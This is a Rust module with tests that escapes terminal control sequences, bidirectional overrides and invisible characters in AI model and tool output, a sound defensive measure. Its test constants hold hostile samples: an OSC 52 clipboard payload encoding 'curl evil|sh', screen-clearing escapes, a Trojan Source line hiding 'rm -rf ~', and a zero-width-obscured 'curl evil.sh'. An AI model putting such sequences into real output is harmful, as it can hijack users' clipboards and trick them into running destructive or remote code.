//! Text from a model or a tool as the terminal shows it: as text, never as
//! commands. A model's answer, a tool's arguments or a server's error message can
//! carry escape sequences (set the clipboard with OSC 52, retitle the window, clear
//! the screen) and characters that hide or reorder what follows (a carriage
//! return, bidirectional overrides, zero-width characters); [`visible`] shows each
//! of them as an escape (`\u{1b}`) instead. It is applied once, where text reaches
//! the terminal: [`Escaped`] wraps the CLI's stdout and stderr, the live progress
//! rows and the permission question call it directly, and [`json_line`] keeps
//! `--json` lines valid JSON that passes through it unchanged.
//!
//! It does not decide what is shown (the renderings do) nor where.

use std::borrow::Cow;
use std::io::{self, Write};

/// How much a place keeps as it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Shown {
    /// One line a person decides on or reads at a glance (a line of the permission
    /// question, a progress row): besides control characters, line breaks,
    /// bidirectional controls and zero-width characters are escaped, so nothing
    /// in it is hidden, reordered or moved to another line.
    Line,
    /// Text to read (an answer, an error message): line breaks and tabs are kept,
    /// and so are zero-width characters (joiners build emoji and Persian and Indic
    /// words); control characters and bidirectional controls are escaped.
    Text,
}

/// `text` with every character `shown` does not keep written as its escape
/// (`\u{1b}`, `\r`, `\u{202e}`). Only printable characters remain, so the result
/// can neither move the cursor nor send the terminal a command.
pub fn visible(text: &str, shown: Shown) -> Cow<'_, str> {
    if !text.chars().any(|c| escaped(c, shown)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if escaped(c, shown) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Whether `c` is shown as its escape.
fn escaped(c: char, shown: Shown) -> bool {
    match c {
        '\t' => false,
        '\n' => shown == Shown::Line,
        // C0, DEL and C1 (0x9b is a CSI, 0x9d an OSC, on their own).
        c if c.is_control() => true,
        // Bidirectional marks, embeddings, overrides and isolates (Trojan Source),
        // and the line and paragraph separators.
        '\u{061c}'
        | '\u{200e}'
        | '\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}'
        | '\u{2028}'
        | '\u{2029}' => true,
        // Zero-width and otherwise invisible characters, and the tag characters
        // that can smuggle text no one sees.
        '\u{00ad}'
        | '\u{034f}'
        | '\u{180e}'
        | '\u{200b}'..='\u{200d}'
        | '\u{2060}'..='\u{2064}'
        | '\u{feff}'
        | '\u{e0000}'..='\u{e007f}' => shown == Shown::Line,
        _ => false,
    }
}

/// A `--json` line that [`Escaped`] passes unchanged: what JSON escaping leaves
/// raw (DEL, C1 controls, bidirectional controls) written as JSON's own `\uXXXX`.
/// The line means the same JSON value. Such characters occur only inside JSON
/// strings, where `\uXXXX` is their escape.
pub fn json_line(json: &str) -> Cow<'_, str> {
    if !json.chars().any(|c| escaped(c, Shown::Text)) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if escaped(c, Shown::Text) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A writer that shows what passes through it as [`Shown::Text`]: the CLI's
/// stdout and stderr, so that no answer, message or line printed there (now or
/// by code written later) can reach the terminal as a command.
#[derive(Debug)]
pub struct Escaped<W> {
    inner: W,
    /// The start of a character split between two writes.
    pending: Vec<u8>,
}

impl<W: Write> Escaped<W> {
    /// Wraps `inner`.
    pub fn new(inner: W) -> Self {
        Self {
            inner,
            pending: Vec::new(),
        }
    }
}

impl<W: Write> Write for Escaped<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.pending.extend_from_slice(buf);
        let whole = match std::str::from_utf8(&self.pending) {
            Ok(_) => self.pending.len(),
            // A character cut at the end of this write is completed by the next.
            Err(e) if e.error_len().is_none() => e.valid_up_to(),
            // Bytes that are not UTF-8 are shown as U+FFFD, never passed raw (a lone
            // 0x9b byte is a CSI to a terminal that is not in UTF-8 mode).
            Err(_) => self.pending.len(),
        };
        let text = String::from_utf8_lossy(&self.pending[..whole]).into_owned();
        self.pending.drain(..whole);
        self.inner
            .write_all(visible(&text, Shown::Text).as_bytes())?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a hostile model puts in an answer: set the clipboard (OSC 52), retitle
    /// the window (OSC 0), clear the screen and move the cursor home (CSI), the same
    /// CSI as one C1 character, and a carriage return that hides what came before.
    const HOSTILE: &str =
        "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b]0;pwned\x07 \x1b[2J\x1b[H \u{9b}2J \rdone\tx\n";

    #[test]
    fn escape_sequences_become_text() {
        assert_eq!(
            visible(HOSTILE, Shown::Text),
            "ok\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7} \\u{1b}]0;pwned\\u{7} \\u{1b}[2J\\u{1b}[H \\u{9b}2J \\rdone\tx\n"
        );
        assert_eq!(
            visible(HOSTILE, Shown::Line),
            "ok\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7} \\u{1b}]0;pwned\\u{7} \\u{1b}[2J\\u{1b}[H \\u{9b}2J \\rdone\tx\\n"
        );
    }

    #[test]
    fn bidirectional_controls_are_escaped_everywhere_and_zero_width_characters_in_lines() {
        // "rm -rf ~ # safe" that reads, reordered by an override, differently.
        let trojan = "ls \u{202e}~ fr- mr\u{202c} \u{2066}x\u{2069}";
        let escaped = "ls \\u{202e}~ fr- mr\\u{202c} \\u{2066}x\\u{2069}";
        assert_eq!(visible(trojan, Shown::Line), escaped);
        assert_eq!(visible(trojan, Shown::Text), escaped);
        let hidden = "curl\u{200b} evil\u{200d}.sh\u{feff}\u{2060}\u{e0041}";
        assert_eq!(
            visible(hidden, Shown::Line),
            "curl\\u{200b} evil\\u{200d}.sh\\u{feff}\\u{2060}\\u{e0041}"
        );
        // A person's emoji and words keep their joiners in an answer.
        assert_eq!(visible("👩\u{200d}💻", Shown::Text), "👩\u{200d}💻");
    }

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        let text = "héllo — 世界\n\tdone ✔";
        assert!(matches!(visible(text, Shown::Text), Cow::Borrowed(t) if t == text));
        assert_eq!(visible(text, Shown::Line), "héllo — 世界\\n\tdone ✔");
    }

    #[test]
    fn a_writer_escapes_what_passes_and_keeps_a_character_split_between_writes() {
        let mut out = Escaped::new(Vec::new());
        write!(out, "{HOSTILE}").unwrap();
        let snake = "🐍".as_bytes();
        out.write_all(&snake[..2]).unwrap();
        out.write_all(&snake[2..]).unwrap();
        out.write_all(b" \x9b\xff\n").unwrap();
        assert_eq!(
            String::from_utf8(out.inner).unwrap(),
            format!("{}🐍 \u{fffd}\u{fffd}\n", visible(HOSTILE, Shown::Text))
        );
    }

    #[test]
    fn a_json_line_stays_the_same_json_and_passes_the_writer_unchanged() {
        let value =
            serde_json::json!({"text": HOSTILE, "bidi": "\u{202e}x\u{7f}", "far": "\u{e0041}"});
        let json = serde_json::to_string(&value).unwrap();
        let line = json_line(&json);
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&line).unwrap(),
            value
        );
        assert!(
            line.contains(r"\u009b2J") && line.contains(r"\u202ex\u007f"),
            "{line}"
        );
        assert_eq!(visible(&line, Shown::Text), line);
    }
}
